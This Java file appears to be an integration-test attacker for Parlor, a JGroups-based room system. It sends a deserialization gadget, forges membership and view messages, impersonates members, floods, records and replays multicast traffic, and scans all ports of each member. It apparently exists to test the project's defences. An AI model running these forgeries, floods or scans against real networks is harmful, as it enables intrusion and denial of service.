package dev.parlor.it.attack;

import dev.parlor.internal.net.NetworkOptions;
import dev.parlor.internal.net.NetworkOptions.Reach.Networks;
import dev.parlor.internal.net.jgroups.address.RoomAddress;
import dev.parlor.internal.net.jgroups.secure.DatagramCipher;
import dev.parlor.internal.net.jgroups.secure.Strangers;
import dev.parlor.internal.net.jgroups.stack.NetworkedStack;
import dev.parlor.internal.net.jgroups.stack.ParlorStack;
import dev.parlor.internal.net.jgroups.stack.SharedThreads;
import dev.parlor.internal.net.jgroups.stack.StackSource;
import java.io.BufferedReader;
import java.io.DataOutputStream;
import java.io.IOException;
import java.io.InputStreamReader;
import java.net.DatagramPacket;
import java.net.DatagramSocket;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.MulticastSocket;
import java.net.NetworkInterface;
import java.net.ServerSocket;
import java.net.Socket;
import java.net.SocketTimeoutException;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.locks.LockSupport;
import org.jgroups.Address;
import org.jgroups.BytesMessage;
import org.jgroups.JChannel;
import org.jgroups.Message;
import org.jgroups.ObjectMessage;
import org.jgroups.Version;
import org.jgroups.stack.IpAddress;
import org.jgroups.util.UUID;

/**
 * Somebody on the same network who knows the room's name, its addresses, JGroups and Parlor, and not the passphrase. Told by
 * lines what to do; says of each what it did. Whatever it says goes every way: in datagrams of discovery, to all and to each member, and
 * on connections, in the name of each member and in none.
 */
public final class Attacker {
    private static final int PACKETS_A_SECOND = 10_000;
    private static final int BURST = 100;
    private static final int RECORDED = 20_000;
    private static final int MAX_DATAGRAM = 65_000;
    private static final int CONNECT_MILLIS = 300;
    private static final int LAST_PORT = 65_535;
    private static final int HELD = 100;
    private static final int TIMES = 30;

    private final NetworkOptions options;
    private final RoomAddress address;
    private final Forgery forgery;
    private final List<InetSocketAddress> targets = new ArrayList<>();
    private final List<byte[]> recorded = new ArrayList<>();
    private final DatagramSocket socket;
    private List<Address> members = List.of();

    private Attacker(String[] args) throws IOException {
        boolean lan = args[1].equals("lan");
        options = new NetworkOptions(args[0], "mallory", 666,
                lan ? Networks.NONE.withMulticast() : Networks.NONE.withHosts(List.of(args[1].split(","))), null,
                NetworkOptions.ANY_PORT, null);
        address = RoomAddress.of(options);
        forgery = new Forgery(options);
        for (String target : args[2].split(",")) {
            String[] parts = target.split(":");
            targets.add(new InetSocketAddress(parts[0], Integer.parseInt(parts[1])));
        }
        MulticastSocket sending = new MulticastSocket(0);
        sending.setTimeToLive(2);
        sending.setNetworkInterface(outside());
        socket = sending;
    }

    /** Arguments: room, "lan" or the known hosts, host:port of each member. */
    public static void main(String[] args) throws Exception {
        Attacker attacker = new Attacker(args);
        System.out.println("ready");
        BufferedReader in = new BufferedReader(new InputStreamReader(System.in, StandardCharsets.UTF_8));
        for (String line; (line = in.readLine()) != null && !line.equals("quit");) {
            String[] words = line.split(" ");
            System.out.println("re:" + words[0] + " " + attacker.attack(words));
        }
        System.exit(0);
    }

    private String attack(String[] words) throws Exception {
        return switch (words[0]) {
            case "gadget" -> deliver(List.of(new ObjectMessage(null, new Gadget())));
            case "join" -> join();
            case "leave" -> deliver(Forgery.leaves(known()));
            case "view" -> deliver(List.of(Forgery.view(known().get(0))));
            case "merge" -> deliver(List.of(Forgery.merge()));
            case "headerless" -> deliver(Forgery.headerless(known()));
            case "lengths" -> lengths();
            case "hello" -> hello();
            case "elsewhere" -> elsewhere();
            case "ask" -> ask();
            case "flood" -> flood(Integer.parseInt(words[1]));
            case "record" -> record(Integer.parseInt(words[1]), false);
            case "relay" -> record(Integer.parseInt(words[1]), true);
            case "replay" -> replay();
            case "scan" -> scan();
            default -> throw new IllegalArgumentException(words[0]);
        };
    }

    private boolean isLan() {
        return options.reach() instanceof Networks networks && networks.multicast();
    }

    private static NetworkInterface outside() throws IOException {
        return NetworkInterface.getByName("eth0");
    }

    private static InetAddress own() throws IOException {
        return outside().getInetAddresses().nextElement();
    }

    /** With JGroups itself, as whoever has Parlor and no passphrase would. */
    private String join() throws Exception {
        SharedThreads.begin();
        Strangers strangers = new Strangers(address.clusterName(), System::nanoTime);
        ParlorStack stack = new ParlorStack(StackSource.open(options, address), null, DatagramCipher.headOf(options.room()), strangers,
                NetworkedStack.of(options, (Networks) options.reach(), address, null, strangers, (kind, message) -> { }), (kind, message) -> { });
        try (JChannel channel = new JChannel(stack)) {
            channel.connect(address.clusterName());
            members = channel.getView().getMembers().stream().filter(each -> !each.equals(channel.getAddress())).toList();
            channel.send(new BytesMessage(null, "let me in".getBytes(StandardCharsets.UTF_8)));
            TimeUnit.SECONDS.sleep(2);
            return "saw " + channel.getView().size();
        }
    }

    /** The members, if it could see them; else somebody, in the hope that it is one. */
    private List<Address> known() {
        return members.isEmpty() ? List.of(UUID.randomUUID(), UUID.randomUUID()) : members;
    }

    private String deliver(List<Message> messages) throws IOException {
        for (Message each : messages) {
            for (InetSocketAddress given : List.of(targets.get(0), new InetSocketAddress(own(), targets.get(0).getPort()))) {
                send(forgery.datagram(each, given));
            }
            connect(forgery.message(each));
        }
        return messages.size() + " packets";
    }

    private String lengths() throws IOException {
        Message view = Forgery.view(known().get(0));
        List<byte[]> packets = new ArrayList<>(Forgery.lengths(forgery.datagram(view, targets.get(0))));
        packets.addAll(Forgery.lengths(forgery.datagram(forgery.elsewhere(known(), new IpAddress(targets.get(0))).get(0), targets.get(0))));
        packets.add(forgery.datagram(forgery.crowd(), targets.get(0)));
        for (byte[] each : packets) {
            send(each);
        }
        List<byte[]> messages = Forgery.lengths(forgery.message(view));
        for (byte[] each : messages) {
            connect(each);
        }
        return packets.size() + messages.size() + " packets";
    }

    /** To all, and to each. */
    private void send(byte[] datagram) throws IOException {
        if (isLan()) {
            socket.send(new DatagramPacket(datagram, datagram.length, InetAddress.getByName(address.multicastAddress()),
                    address.multicastPort()));
        }
        sendToEach(datagram);
    }

    private void sendToEach(byte[] datagram) throws IOException {
        for (InetSocketAddress target : targets) {
            socket.send(new DatagramPacket(datagram, datagram.length, target));
        }
    }

    /** To each, as JGroups begins a connection, and as a room does, in the name of each member. */
    private void connect(byte[] message) throws IOException {
        for (InetSocketAddress target : targets) {
            connect(target, out -> {
                IpAddress name = new IpAddress(targets.get(0));
                out.writeBytes("bela");
                out.writeShort(Version.version);
                out.writeShort(name.serializedSize());
                name.writeTo(out);
                frame(out, message);
            });
            for (InetSocketAddress named : targets) {
                connect(target, out -> {
                    frame(out, Forgery.hello(named));
                    frame(out, message);
                });
            }
        }
    }

    private static void frame(DataOutputStream out, byte[] bytes) throws IOException {
        out.writeInt(bytes.length);
        out.write(bytes);
    }

    private interface Words {
        void sayOn(DataOutputStream out) throws IOException;
    }

    private static void connect(InetSocketAddress target, Words words) {
        try (Socket connection = new Socket()) {
            connection.connect(target, CONNECT_MILLIS);
            DataOutputStream out = new DataOutputStream(connection.getOutputStream());
            words.sayOn(out);
            out.flush();
        } catch (IOException refused) {
            // As it may.
        }
    }

    /** Connections that say they are of a member, and of members that are elsewhere, all open at once and then ended. */
    private String hello() throws IOException {
        List<Socket> held = new ArrayList<>();
        List<InetSocketAddress> names = new ArrayList<>(targets);
        names.add(new InetSocketAddress(own(), targets.get(0).getPort()));
        for (int i = 0; i < HELD; i++) {
            Socket connection = new Socket();
            held.add(connection);
            try {
                connection.connect(targets.get(i % targets.size()), CONNECT_MILLIS);
                frame(new DataOutputStream(connection.getOutputStream()), Forgery.hello(names.get(i % names.size())));
            } catch (IOException refused) {
                // As it may.
            }
        }
        // Until they have been read.
        LockSupport.parkNanos(TimeUnit.SECONDS.toNanos(1));
        for (Socket each : held) {
            each.close();
        }
        return held.size() + " connections";
    }

    /** Says in members' names that they are here, where connections are taken and nothing is read; for some seconds. */
    private String elsewhere() throws IOException {
        List<Message> packets = forgery.elsewhere(known(), new IpAddress(own(), targets.get(0).getPort()));
        try (ServerSocket hole = new ServerSocket(targets.get(0).getPort(), HELD, own())) {
            for (int i = 0; i < TIMES; i++) {
                for (Message each : packets) {
                    for (InetSocketAddress given : targets) {
                        send(forgery.datagram(each, given));
                    }
                    connect(forgery.message(each));
                }
                LockSupport.parkNanos(TimeUnit.MILLISECONDS.toNanos(100));
            }
            return TIMES * packets.size() + " packets that lead to port " + hole.getLocalPort();
        }
    }

    /** How many answers it gets, which say who is in the room. */
    private String ask() throws IOException {
        InetSocketAddress answered = new InetSocketAddress(own(), socket.getLocalPort());
        send(forgery.datagram(forgery.question(new IpAddress(answered)), answered));
        int answers = 0;
        socket.setSoTimeout(1_000);
        try {
            while (true) {
                DatagramPacket packet = new DatagramPacket(new byte[MAX_DATAGRAM], MAX_DATAGRAM);
                socket.receive(packet);
                // What says that there is a passphrase is shorter than anything that names a member.
                answers += packet.getLength() > 2 * DatagramCipher.HEAD_BYTES ? 1 : 0;
            }
        } catch (SocketTimeoutException quiet) {
            return answers + " answers";
        }
    }

    /** At the same ports and at others, to all and to each, and on connections without what is in the clear. */
    private String replay() throws IOException {
        for (byte[] each : recorded) {
            send(each);
            byte[] answeredHere = ByteBuffer.wrap(each.clone()).putShort(0, (short) socket.getLocalPort()).array();
            send(answeredHere);
            connect(Arrays.copyOfRange(each, Short.BYTES, each.length));
        }
        return recorded.size() + " packets";
    }

    private String flood(int seconds) throws IOException {
        long begin = System.nanoTime();
        long sent = 0;
        while (System.nanoTime() - begin < seconds * 1_000_000_000L) {
            for (int i = 0; i < BURST; i++, sent++) {
                byte[] packet = forgery.rubbish(sent, recorded);
                if (isLan() && i % 2 == 0) {
                    socket.send(new DatagramPacket(packet, packet.length, InetAddress.getByName(address.multicastAddress()),
                            address.multicastPort()));
                } else {
                    InetSocketAddress target = targets.get(i / 2 % targets.size());
                    socket.send(new DatagramPacket(packet, packet.length, target));
                    if (i == 1) {
                        connect(target, out -> frame(out, packet));
                    }
                }
            }
            long due = begin + sent * 1_000_000_000L / PACKETS_A_SECOND;
            while (System.nanoTime() < due) {
                LockSupport.parkNanos(due - System.nanoTime());
            }
        }
        return sent + " packets in " + (System.nanoTime() - begin) / 1_000_000 + " ms";
    }

    /** What the room says to all; and passes it on at once, as if it were said here. */
    private String record(int seconds, boolean relayed) throws IOException {
        int heard = 0;
        try (MulticastSocket hearing = new MulticastSocket(address.multicastPort())) {
            hearing.joinGroup(new InetSocketAddress(address.multicastAddress(), 0), outside());
            hearing.setSoTimeout(100);
            byte[] buffer = new byte[MAX_DATAGRAM];
            long end = System.nanoTime() + seconds * 1_000_000_000L;
            while (System.nanoTime() < end && recorded.size() < RECORDED) {
                DatagramPacket packet = new DatagramPacket(buffer, buffer.length);
                try {
                    hearing.receive(packet);
                } catch (SocketTimeoutException quiet) {
                    continue;
                }
                byte[] datagram = Arrays.copyOf(buffer, packet.getLength());
                heard++;
                recorded.add(datagram);
                if (relayed) {
                    sendToEach(datagram);
                }
            }
        }
        return heard + " packets";
    }

    /** Every port of every member: rubbish by UDP, and by TCP where somebody listens. */
    private String scan() throws IOException {
        List<Integer> open = new ArrayList<>();
        for (InetAddress host : targets.stream().map(InetSocketAddress::getAddress).distinct().toList()) {
            for (int port = 1; port <= LAST_PORT; port++) {
                socket.send(new DatagramPacket(new byte[] {1, 2, 3, 4, 5, 6, 7, 8}, 8, host, port));
                try (Socket connection = new Socket()) {
                    connection.connect(new InetSocketAddress(host, port), CONNECT_MILLIS);
                    open.add(port);
                    connection.setSoTimeout(CONNECT_MILLIS);
                    DataOutputStream out = new DataOutputStream(connection.getOutputStream());
                    out.writeInt(Integer.MAX_VALUE);
                    out.writeBytes("GET / HTTP/1.1\r\n\r\n");
                    out.write(new byte[4_096]);
                    out.flush();
                    connection.getInputStream().read();
                } catch (IOException closed) {
                    // Nobody, or somebody who has heard enough.
                }
            }
        }
        return "open: " + open;
    }
}
